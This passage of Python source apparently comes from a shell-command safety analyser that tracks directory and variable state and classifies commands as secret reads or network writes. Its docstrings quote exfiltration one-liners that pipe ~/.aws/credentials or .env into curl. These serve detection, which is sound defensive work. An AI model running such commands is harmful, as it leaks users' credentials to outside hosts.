            return bytes.fromhex("".join(stdin_text.split())).decode("utf-8", "replace")
        except ValueError:
            return None
    return None


_ESCAPES: Final = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\", "a": "\a", "b": "\b", "e": "\x1b"}


def _unescape(text: str) -> str:
    """printf's backslash escapes: ``\\n``, ``\\t``, ``\\xHH``, ``\\NNN`` (octal)."""
    out: list[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch != "\\" or i + 1 == len(text):
            out.append(ch)
            i += 1
            continue
        nxt = text[i + 1]
        if nxt in _ESCAPES:
            out.append(_ESCAPES[nxt])
            i += 2
        elif nxt == "x":
            digits = "".join(c for c in text[i + 2 : i + 4] if c in "0123456789abcdefABCDEF")
            out.append(chr(int(digits, 16)) if digits else "\\x")
            i += 2 + len(digits)
        elif nxt in "01234567":
            digits = "".join(c for c in text[i + 1 : i + 4] if c in "01234567")
            out.append(chr(int(digits, 8)))
            i += 1 + len(digits)
        else:
            out.append(ch + nxt)
            i += 2
    return "".join(out)


def _printf(template: str, args: list[str]) -> str | None:
    """What ``printf TEMPLATE ARGS…`` writes, for ``%s``/``%b``/``%%`` templates (the
    template is reused while arguments remain, as printf does); ``None`` for others."""
    body = template.replace("%%", "\0")
    specs = [piece[:1] for piece in body.split("%")[1:]]
    if any(spec not in ("s", "b") for spec in specs):
        return None
    out: list[str] = []
    queue = list(args)
    for _ in range(64):
        text = _unescape(body)
        at = text.find("%")
        while at >= 0:
            value = queue.pop(0) if queue else ""
            if text[at + 1] == "b":
                value = _unescape(value)
            text = text[:at] + value + text[at + 2 :]
            at = text.find("%", at + len(value))
        out.append(text.replace("\0", "%"))
        if not queue or not specs:
            break
    return "".join(out)


#: Characters that make an unquoted substitution's output split or expand again.
_SPLITS_OR_GLOBS: Final = re.compile(r"[\s*?\[]")

#: ``git ls-files`` options that leave its output the tracked files' paths relative to the cwd
#: (``--others``, ``--full-name``, ``--recurse-submodules``, ``-s``… print something else).
_LS_FILES_PLAIN: Final = frozenset(("-z", "-c", "--cached"))


def _ls_files_selection(git: SimpleCommandFacts, cwd: str | None) -> list[str]:
    """``git ls-files '*.md'`` prints the tracked files its pathspecs pick, as the
    ``ROOT/{}/NAME`` patterns a ``find`` selection uses; ``[]`` without a pathspec (every
    tracked file: the reader's paths stay unknown) or when a pathspec is magic or dynamic."""
    if git.subcommand != "ls-files" or cwd is None:
        return []
    specs = [a for a in git.argv[2:] if not a.startswith("-")]
    if not specs or any(s.startswith(":") or "$" in s for s in specs):
        return []
    base = "" if cwd == "/" else cwd.rstrip("/")
    return [
        f"{base}/{{}}/{spec}" if "/" not in spec else os.path.normpath(os.path.join(cwd, spec))
        for spec in specs
    ]


def sends_secret(fact: SimpleCommandFacts) -> None:
    """A network part given secret material -- in an argument (``curl -H "X: $(cat
    ~/.aws/credentials)"``, a query built from ``$(cat .env)``) or on its input (``cat .env |
    curl -d @- …``) -- sends it: a secret read and a network write (a web write of a secret)."""
    if "network" in fact.classes:
        fact.classes.update(("secret_read", "network_write"))
        fact.classes.discard("network_read")


def unknown_reads(fact: SimpleCommandFacts) -> None:
    """``cat $F``, ``cat "$1"``: a file read whose name is not known before the command runs
    is ``unresolved_path`` -- unless a filter the line shows picks the files (``find … |
    xargs cat``: the selection is judged as its own path). Run on every part once the whole
    line is analysed, when every selection has been attached."""
    unknown = [
        p for p in fact.paths if p.resolved is None and p.access in ("read", "exec") and not p.meta
    ]
    if unknown and not any(p.source == "filter" for p in fact.paths):
        fact.markers.add("unresolved_path")
        for path in unknown:
            path.why = path.why or "its value is not known before the command runs"


def _forget_changes(env: Env, before: Env, after: Env) -> None:
    """After a branch or loop, what it may have changed is unknown."""
    for name in set(after.vars) | set(before.vars):
        if after.vars.get(name) != before.vars.get(name):
            env.vars.pop(name, None)
            if name in ("PATH", PATH_CHANGED, ENV_CODE, ENV_UNKNOWN):
                env.vars[name] = after.vars.get(name) or before.vars.get(name) or ""
    if after.cwd != before.cwd:
        env.cwd = None


def _builtin_effects(
    fact: SimpleCommandFacts, argv: list[str], flags: list[int], env: Env, home: str
) -> None:
    """Builtins that change the state later commands run in: cd, export, unset…"""
    program = fact.program
    if program in ("cd", "pushd"):
        operands = [a for a in argv[1:] if not a.startswith("-") or a == "-"]
        before = env.cwd
        if program == "pushd" and operands and operands[0][:1] in ("+", "-"):
            env.cwd = None  # rotating the stack
        elif not operands:
            env.cwd = home if program == "cd" and "$" not in home else None
        elif operands[0] == "-" or any(f & (DYNAMIC | GLOB) for f in flags[1:]):
            env.cwd = None
        elif "CDPATH" in env.vars and not operands[0].startswith(("/", ".")):
            env.cwd = None  # CDPATH may send a relative name elsewhere
        else:
            env.cwd = resolve(operands[0], env.cwd, home)
        if program == "pushd":
            stack = env.vars.get(_DIRSTACK)
            if before is None:
                env.vars.pop(_DIRSTACK, None)
            else:
                env.vars[_DIRSTACK] = before + ("\0" + stack if stack else "")
    elif program == "popd":
        stack = env.vars.get(_DIRSTACK)
        operands = [a for a in argv[1:] if a != "-n"]
        if stack and not operands and "-n" not in argv:
            top, _, rest = stack.partition("\0")
            env.cwd = top
            env.vars[_DIRSTACK] = rest
        elif "-n" not in argv:
            env.cwd = None
            env.vars.pop(_DIRSTACK, None)

    elif program in ("export", "declare", "typeset", "local", "readonly"):
        for value, flag in zip(argv[1:], flags[1:], strict=False):
            name, eq, text = value.partition("=")
            if not eq or not name.replace("_", "a").isalnum():
                continue
            if flag & (DYNAMIC | GLOB):
                env.vars.pop(name, None)
            else:
                env.vars[name] = text
            if name == "PATH":
                fact.markers.add("path_modified")
                env.vars[PATH_CHANGED] = "1"
            if name in DANGEROUS_VARIABLES:
                fact.markers.add("env_code")
                fact.classes.add("code_exec")
                env.vars.setdefault("__CLEARANCE_ENV_CODE__", name)
    elif program == "unset" or (
        program in ("read", "mapfile", "readarray", "getopts", "printf") and len(argv) > 1
    ):
        for value in argv[1:]:
            env.vars.pop(value, None)


def _writes_where_it_runs(
    moved: list[PathFact], where: str | None, workspace: str | None, why: str
) -> PathFact:
    """The write of a program that writes the directory it runs in (the last directory an
    option or ``cd`` moved it to, else the working directory)."""
    written = moved[-1].path if moved else "."
    return PathFact(written, where, "write", inside(where, workspace), "cwd", why=why)
